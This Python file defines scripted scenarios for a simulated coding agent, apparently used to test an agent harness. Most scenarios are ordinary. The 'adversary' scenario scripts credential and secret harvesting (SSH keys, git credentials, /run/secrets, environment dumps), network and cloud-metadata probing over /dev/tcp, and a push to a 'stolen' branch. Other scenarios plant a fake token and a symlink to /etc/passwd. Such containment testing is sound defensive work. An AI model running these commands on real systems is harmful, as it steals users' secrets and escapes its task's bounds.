"""The built-in scenarios, as data. An issue chooses one with a line `scenario: NAME` in its text."""

from simulators.model.script import Fault, FaultRule, MessageRule, Script, Step, Subagent, ToolUse


def _bash(command: str, text: str | None = None, *, background: bool = False, **more: str) -> Step:
    options: dict[str, object] = {"run_in_background": True} if background else {}
    return Step(
        text=text, tool_use=[ToolUse(name="Bash", input={"command": command, **options})], capture=more
    )


def _read(path: str, **capture: str) -> Step:
    return Step(
        tool_use=[ToolUse(name="Read", input={"file_path": f"{{workspace}}/{path}"})], capture=capture
    )


def _write(path: str, content: str, text: str | None = None, gate: str | None = None) -> Step:
    """Write a file; when it is there already the tool wants it to be read first."""
    call = ToolUse(name="Write", input={"file_path": f"{{workspace}}/{path}", "content": content})
    return Step(text=text, tool_use=[call], gate=gate, on_error=[_read(path), Step(tool_use=[call])])


def _edit(path: str, old: str, new: str, text: str | None = None) -> Step:
    edited = {"file_path": f"{{workspace}}/{path}", "old_string": old, "new_string": new}
    return Step(text=text, tool_use=[ToolUse(name="Edit", input=edited)])


def _say(text: str) -> Step:
    return Step(text=text)


def _script(summary: str, *turns: list[Step]) -> Script:
    return Script(summary=summary, turns=list(turns))


_NAIVE_LINE = "        result = result * (n - k + i) / i"
_EXACT_LINE = "        result = result * (n - k + i) // i"
_BINOMIAL = f'''"""Binomial coefficients."""


def binomial(n: int, k: int) -> int:
    """The number of ways to choose k things out of n; 0 when k is larger than n."""
    if n < 0 or k < 0:
        raise ValueError("n and k must not be negative")
    if k > n:
        return 0
    k = min(k, n - k)
    result = 1
    for i in range(1, k + 1):
{_NAIVE_LINE}
    return result
'''
_BINOMIAL_TEST = """import unittest

from binomial import binomial


class BinomialTest(unittest.TestCase):
    def test_small_values(self):
        self.assertEqual([binomial(5, k) for k in range(7)], [1, 5, 10, 10, 5, 1, 0])

    def test_large_values_are_exact_integers(self):
        self.assertIsInstance(binomial(50, 25), int)
        self.assertEqual(binomial(200, 100) * 100, binomial(200, 99) * 101)

    def test_negative_arguments_are_refused(self):
        with self.assertRaises(ValueError):
            binomial(-1, 0)


if __name__ == "__main__":
    unittest.main()
"""
_COMPUTE = "python3 -B -c 'from binomial import binomial; print(\"C(50,25) =\", binomial(50, 25))'"

BINOMIAL_TURN = [
    _bash("git log --oneline -3 2>/dev/null; ls", "I'll look at what is there first."),
    _write("binomial.py", _BINOMIAL, "A first version of the function."),
    _write("tests/test_binomial.py", _BINOMIAL_TEST, "And a test for it."),
    _edit(
        "binomial.py",
        _NAIVE_LINE,
        _EXACT_LINE,
        "The division yields floating-point numbers; integer arithmetic is exact.",
    ),
    _bash("python3 -B -m unittest tests.test_binomial 2>&1", verdict=r"^(OK|FAILED.*)$"),
    _bash(_COMPUTE, "Now the value that was asked for.", result=r"C\(50,25\) = (\S+)"),
    _say(
        "I added `binomial(n, k)` in `binomial.py` with exact integer arithmetic, and a test in "
        "`tests/test_binomial.py` ({found:verdict}). C(50,25) = {found:result}."
    ),
]

_COMMIT_ENV = "git -c user.name=Agent -c user.email=agent@example.com commit -q -m"
_FAKE_TOKEN = "ghp_" + "vT8kQ2mZr5Xw1Nc7Yb4Lp9Hs6Jd3Gf0AeUiB"  # belongs to nobody

# The search must never run on somebody's own machine; a test can tell by the words that it did not run.
SANDBOX_GUARD = (
    '[ -n "$SANDBOX_ID" ] || [ -n "$SANDBOX_TOKEN_FILE" ] '
    '|| { echo "not in a sandbox" | tee -a loot.txt; exit 1; }; '
)
_LOOT = [
    "env | sort",
    "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | sort -u",
    'cat "$SANDBOX_TOKEN_FILE" /run/secrets/* ~/.netrc ~/.git-credentials ~/.ssh/* 2>/dev/null',
    "git remote -v; git config --list; cat .git/config",
    "find / -xdev -type f \\( -name '*.pem' -o -name '*.key' -o -name '.env' \\) -readable 2>/dev/null | head -50",
]
_REACH = (
    "for target in 169.254.169.254/80 127.0.0.1/22 127.0.0.1/5432 127.0.0.1/6379 127.0.0.1/8000 1.1.1.1/443; do "
    'timeout 2 bash -c "exec 3<>/dev/tcp/$target" 2>/dev/null && echo "reached $target" >> loot.txt '
    '|| echo "closed $target" >> loot.txt; done'
)
_PUSH = "timeout 10 git push origin HEAD:refs/heads/stolen >> loot.txt 2>&1 && echo pushed >> loot.txt; true"


def _adversary() -> Script:
    commands = [f"({command}) >> loot.txt 2>&1; true" for command in _LOOT]
    commands += [_REACH, _PUSH, "echo 'search complete' >> loot.txt; wc -c loot.txt"]
    steps = [_bash(SANDBOX_GUARD + command) for command in commands]
    return _script(
        "Looks for secrets and ways out, in a sandbox only; loot.txt holds the finds, then 'search complete'",
        [*steps, _say("I looked around.")],
    )


def _long() -> Script:
    steps = [
        _write(f"part{n}.txt", f"part {n}\n", f"Part {n} of 3.", gate=f"long-{n}" if n > 1 else None)
        for n in (1, 2, 3)
    ]
    return _script(
        "Three files, held before the second and third (gates long-2, long-3) and at the end (long-end)",
        [*steps, Step(text="All three parts are written.", gate="long-end")],
    )


SCENARIOS: dict[str, Script] = {
    "binomial": _script("Writes, edits and tests C(n, k)", BINOMIAL_TURN),
    "no_changes": _script(
        "Looks and changes nothing", [_bash("ls"), _say("Everything asked for is there already.")]
    ),
    "edit_readme": _script(
        "One edit of README.md",
        [
            _read("README.md", first=r"^\s*1(?:→|\t)(.+)$"),
            _edit("README.md", "{found:first}", "{found:first}\n\nEdited as asked."),
            _say("README.md is edited."),
        ],
    ),
    "protected": _script(
        "Adds a workflow, which is a protected path",
        [
            _bash(
                "mkdir -p .github/workflows && "
                "printf 'on: push\\njobs: {}\\n' > .github/workflows/x.yml && echo 'note' > notes.txt"
            ),
            _say("The workflow is there."),
        ],
    ),
    "secret": _script(
        "Writes something that looks like a token",
        [_write("config.ini", f"[github]\ntoken = {_FAKE_TOKEN}\n"), _say("The configuration is written.")],
    ),
    "bash_edits": _script(
        "Edits by Bash only: creates, changes and removes",
        [
            _bash("printf 'one\\ntwo\\n' > made.txt"),
            _bash("sed -i 's/two/deux/' made.txt && printf 'gone\\n' > passing.txt"),
            _bash("rm passing.txt && cat made.txt"),
            _say("made.txt is written."),
        ],
    ),
    "leaves_uncommitted": _script(
        "Writes a file and commits nothing", [_write("left.txt", "left lying\n"), _say("Written.")]
    ),
    "commits_itself": _script(
        "Commits on the branch it was given",
        [
            _write("own.txt", "committed by the agent\n"),
            _bash(f"git add -A && {_COMMIT_ENV} 'Add own.txt'"),
            _say("Committed."),
        ],
    ),
    "other_branch": _script(
        "Commits on a branch of its own and stays there",
        [
            _bash(f"git switch -q -c my-fix && echo fix > fix.txt && git add -A && {_COMMIT_ENV} 'Fix'"),
            _say("Fixed on my-fix."),
        ],
    ),
    "other_branch_uncommitted": _script(
        "As other_branch, and a second file not committed",
        [
            _bash(f"git switch -q -c my-fix && echo fix > fix.txt && git add -A && {_COMMIT_ENV} 'Fix'"),
            _write("second.txt", "not committed\n"),
            _say("Fixed on my-fix."),
        ],
    ),
    "detached_head": _script(
        "Commits on a detached head and stays there",
        [
            _bash(f"git checkout -q --detach && echo fix > fix.txt && git add -A && {_COMMIT_ENV} 'Fix'"),
            _say("Fixed."),
        ],
    ),
    "hooks": _script(
        "Turns on the repository's own hooks, leaves work uncommitted",
        [_bash("git config core.hooksPath .hooks"), _write("binomial.py", _BINOMIAL), _say("Written.")],
    ),
    "credit_exhausted": Script(
        summary="Two good steps, then every request is refused",
        turns=[
            [
                _write("partial.txt", "half of the work\n"),
                _bash("cat partial.txt"),
                _bash("ls"),
                _say("Done."),
            ]
        ],
        faults=[
            FaultRule(
                fault=Fault(kind="status", status=400, message="credit exhausted", times=None),
                after_tool_results=2,
            )
        ],
    ),
    "retired_model": Script(
        summary="The model asked for is gone",
        turns=[BINOMIAL_TURN],
        faults=[FaultRule(fault=Fault(kind="status", status=404, message="model: {model}", times=None))],
    ),
    "overloaded": Script(
        summary="Overloaded twice, then fine",
        turns=[[Step(fault=Fault(kind="status", status=529, times=2)), *BINOMIAL_TURN]],
    ),
    "background": _script(
        "Starts a command in the background and ends its turn",
        [
            _bash("sleep 8; echo late > late.txt", background=True),
            _say("I will go on when it is finished."),
        ],
        [_say("It is finished: late.txt is there.")],
    ),
    "stdin": _script(
        "A command that reads its input",
        [_bash("cat; echo after > after.txt; cat after.txt"), _say("It came to its end.")],
    ),
    "adversary": _adversary(),
    "long": _long(),
    "hang": Script(
        summary="The second request is never answered (until gate hang-end is opened)",
        turns=[
            [
                _write("before.txt", "before the silence\n"),
                Step(text="Never said.", fault=Fault(kind="no_bytes", times=None, gate="hang-end")),
            ]
        ],
    ),
    "symlink": _script(
        "Leaves a link that leads out of the tree",
        [_bash("ln -s /etc/passwd outside && ln -s ../../outside.txt up"), _say("Linked.")],
    ),
    "big_files": _script(
        "One file of 60 MB that does not compress",
        [_bash("head -c 60000000 /dev/urandom > big.bin"), _say("Written.")],
    ),
    "many_files": _script(
        "5,000 files",
        [
            _bash('mkdir -p many && for n in $(seq 5000); do echo "$n" > "many/$n.txt"; done'),
            _say("Written."),
        ],
    ),
    "deletes": _script("Deletes README.md", [_bash("rm README.md"), _say("README.md is gone.")]),
    "subagent": Script(
        summary="A subagent counts the files and writes count.txt",
        turns=[
            [
                Step(
                    text="I'll let a subagent count.",
                    tool_use=[
                        ToolUse(
                            name="Agent",
                            input={
                                "description": "Count the files",
                                "prompt": "Count the tracked files and write the number to count.txt.",
                                "subagent_type": "general-purpose",
                                "run_in_background": False,
                            },
                        )
                    ],
                    capture={"count": r"There are (\d+) files"},
                ),
                _say("The subagent counted {found:count} files."),
            ]
        ],
        subagents=[
            Subagent(
                turns=[
                    [
                        _bash("git ls-files | wc -l | tee count.txt", count=r"^\s*(\d+)\s*$"),
                        _say("There are {found:count} files."),
                    ]
                ]
            )
        ],
    ),
    "skill": _script(
        "Uses the repository's skill house-style",
        [
            Step(tool_use=[ToolUse(name="Skill", input={"skill": "house-style"})]),
            _write("styled.txt", "in the house style\n"),
            _say("Written in the house style."),
        ],
    ),
    "steered": Script(
        summary="The binomial work; a message with the word CHANGES gets a CHANGES.md",
        turns=[BINOMIAL_TURN],
        on_message=[
            MessageRule(
                match=r"\bCHANGES\b",
                steps=[_write("CHANGES.md", "- binomial(n, k)\n", "I'll note it in CHANGES.md as well.")],
            )
        ],
    ),
}
